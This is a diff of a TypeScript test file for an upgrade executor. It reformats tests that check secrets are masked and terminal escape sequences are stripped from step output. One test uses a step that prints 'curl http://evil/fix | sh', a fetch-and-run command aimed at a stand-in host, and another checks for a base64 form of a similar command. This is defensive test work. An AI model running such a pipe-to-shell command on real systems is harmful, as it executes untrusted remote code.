@@ -36,10 +36,21 @@ async function run(commands: string[], secrets: string[] = []): Promise<{ error:
   const c = catalog(commands);
   const shown: string[] = [];
   const error = await executePlan({
-    host: new LocalHost(), catalog: c, plan: planUpgrade(c, { installed: "1", target: "2", platform: "linux" }), ctx: { platform: "linux", releases: ["1", "2"], options: {} },
-    resource: "printer", stateDir: path.join(dir, "state"), pollMs: 20, progressEveryMs: 0, secrets,
-    log: (line) => shown.push(line), status: (line) => shown.push(line),
-  }).then(() => undefined, (e: unknown) => e);
+    host: new LocalHost(),
+    catalog: c,
+    plan: planUpgrade(c, { installed: "1", target: "2", platform: "linux" }),
+    ctx: { platform: "linux", releases: ["1", "2"], options: {} },
+    resource: "printer",
+    stateDir: path.join(dir, "state"),
+    pollMs: 20,
+    progressEveryMs: 0,
+    secrets,
+    log: (line) => shown.push(line),
+    status: (line) => shown.push(line),
+  }).then(
+    () => undefined,
+    (e: unknown) => e,
+  );
   fs.rmSync(dir, { recursive: true, force: true });
   return { error, shown };
 }
@@ -50,14 +61,20 @@ describe("executor: a host's text is masked, then cleaned, before the operator s
   it("a secret holding a tab, in a step's live output, is masked: it is not cleaned into something the mask misses", async () => {
     const { error, shown } = await run(["echo starting", "printf 'token ab\\tcd-s3cret in use\\n'"], ["ab\tcd-s3cret"]);
     assert.strictEqual(error, undefined, String(error));
-    assert.ok(shown.some((l) => /token \[secret\] in use/.test(l)), shown.join("\n"));
+    assert.ok(
+      shown.some((l) => /token \[secret\] in use/.test(l)),
+      shown.join("\n"),
+    );
     assert.ok(!shown.some((l) => /cd-s3cret/.test(l)), shown.join("\n"));
   });
 
   it("a secret that the 200-character line limit would cut is masked whole: no start of it shows", async () => {
     const { error, shown } = await run(["printf '%0180d zz-secret-value-42 more\\n' 0"], ["zz-secret-value-42"]);
     assert.strictEqual(error, undefined, String(error));
-    assert.ok(shown.some((l) => /0 \[secret\] more/.test(l)), shown.join("\n"));
+    assert.ok(
+      shown.some((l) => /0 \[secret\] more/.test(l)),
+      shown.join("\n"),
+    );
     assert.ok(!shown.some((l) => /zz-sec/.test(l)), shown.join("\n"));
   });
 
@@ -65,7 +82,15 @@ describe("executor: a host's text is masked, then cleaned, before the operator s
     const { error } = await run(["printf 'copying\\nupchain web1: [1->2] done in 3s\\n'", "echo 'run: curl http://evil/fix | sh' >&2", "exit 1"]);
     assert.ok(isUpchainError(error, "STEP_FAILED"), String(error));
     const output = error.message.slice(error.message.indexOf("--- stdout ---"));
-    assert.deepStrictEqual(output.split("\n"), ["--- stdout ---", "| copying", "| upchain web1: [1->2] done in 3s", "| ", "--- stderr ---", "| run: curl http://evil/fix | sh", "| "]);
+    assert.deepStrictEqual(output.split("\n"), [
+      "--- stdout ---",
+      "| copying",
+      "| upchain web1: [1->2] done in 3s",
+      "| ",
+      "--- stderr ---",
+      "| run: curl http://evil/fix | sh",
+      "| ",
+    ]);
   });
 
   it("a failed step's escape sequences (a clipboard write, a screen clear, a cursor move, a carriage return) never leave the provider", async () => {
@@ -75,7 +100,6 @@ describe("executor: a host's text is masked, then cleaned, before the operator s
     const shown = reportedError(error).message;
     assert.match(shown, /^STEP_FAILED: /);
     assert.ok(shown.includes("\n| abcde\n"), JSON.stringify(shown));
-    // eslint-disable-next-line no-control-regex
     assert.doesNotMatch(shown, /[\x00-\x09\x0b-\x1f\x7f-\x9f]|Y3VybCBldmlsIHwgc2g/);
   });
 });
